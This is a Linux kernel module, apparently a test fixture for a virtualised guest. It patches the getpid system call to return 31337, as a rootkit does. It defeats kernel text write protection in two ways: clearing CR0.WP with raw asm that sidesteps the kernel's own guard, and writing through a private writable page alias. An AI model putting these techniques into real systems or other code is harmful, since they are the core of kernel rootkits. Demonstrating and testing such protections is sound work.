// SPDX-License-Identifier: GPL-2.0
/*
 * What a rootkit does to its kernel: patch a system call. For the story's guest.
 *
 *	insmod rootkit.ko address=0x...		of __x64_sys_getpid in /proc/kallsyms
 *	echo wp >/proc/rootkit			patch it with CR0.WP cleared
 *	echo alias >/proc/rootkit		patch it by a writable mapping of its own
 *	echo undo >/proc/rootkit		undo that, in the way it was done
 *	cat /proc/rootkit			what getpid() is now
 *
 * Patched, getpid() returns 31337. An exception at the write, whichever it is,
 * makes the echo fail with EFAULT; the guest goes on.
 */
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

#include <asm/asm.h>
#include <asm/processor-flags.h>

static unsigned long address;
module_param(address, ulong, 0444);
MODULE_PARM_DESC(address, "of __x64_sys_getpid");

/* mov $31337, %eax; ret */
static const u8 patch[] = { 0xb8, 0x69, 0x7a, 0x00, 0x00, 0xc3 };

static u64 original;
static bool by_alias;

static u64 patched(void)
{
	u64 code = original;

	memcpy(&code, patch, sizeof(patch));
	return code;
}

static u64 current_code(void)
{
	return READ_ONCE(*(u64 *)address);
}

/* One write, so that nobody executes half of it. */
static int write_code(u64 *where, u64 code)
{
	asm goto("1: movq %[code], (%[where])\n"
		 _ASM_EXTABLE(1b, %l[fault])
		 : : [where] "r" (where), [code] "r" (code) : "memory" : fault);
	return 0;
fault:
	return -EFAULT;
}

/* Not native_write_cr0(): that one watches over the bit. */
static void set_cr0(unsigned long cr0)
{
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
}

static int write_without_wp(u64 code)
{
	unsigned long flags, cr0;
	int ret;

	local_irq_save(flags);
	cr0 = read_cr0();
	set_cr0(cr0 & ~X86_CR0_WP);
	ret = write_code((u64 *)address, code);
	set_cr0(cr0);
	local_irq_restore(flags);

	return ret;
}

static int write_by_alias(u64 code)
{
	struct page *page = pfn_to_page(__pa_symbol(address) >> PAGE_SHIFT);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	int ret;

	if (!alias)
		return -ENOMEM;
	ret = write_code(alias + offset_in_page(address), code);
	vunmap(alias);

	return ret;
}

static int set_code(u64 code)
{
	return by_alias ? write_by_alias(code) : write_without_wp(code);
}

static ssize_t rootkit_write(struct file *file, const char __user *buf, size_t count, loff_t *pos)
{
	char text[8] = "";
	bool undo, alias;
	int ret;

	if (count >= sizeof(text))
		return -EINVAL;
	if (copy_from_user(text, buf, count))
		return -EFAULT;

	undo = sysfs_streq(text, "undo");
	alias = sysfs_streq(text, "alias");
	if (!undo && !alias && !sysfs_streq(text, "wp"))
		return -EINVAL;
	if (!undo)
		by_alias = alias;

	ret = set_code(undo ? original : patched());
	return ret ?: count;
}

static int rootkit_show(struct seq_file *file, void *v)
{
	u64 code = current_code();

	seq_printf(file, "getpid %s\n", code == original ? "is as it was" :
		   code == patched() ? "is patched" : "is something else");
	return 0;
}

static int rootkit_open(struct inode *inode, struct file *file)
{
	return single_open(file, rootkit_show, NULL);
}

static const struct proc_ops rootkit_ops = {
	.proc_open = rootkit_open,
	.proc_read = seq_read,
	.proc_write = rootkit_write,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
};

static int __init rootkit_init(void)
{
	/* A function is aligned: the patch lies in one cache line. */
	if (address < __START_KERNEL_map || address >= MODULES_VADDR || address % sizeof(u64))
		return -EINVAL;
	original = current_code();

	return proc_create("rootkit", 0600, NULL, &rootkit_ops) ? 0 : -ENOMEM;
}

static void __exit rootkit_exit(void)
{
	remove_proc_entry("rootkit", NULL);
	if (current_code() != original)
		set_code(original);
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_DESCRIPTION("Patches a system call, as a rootkit does");
MODULE_LICENSE("GPL");
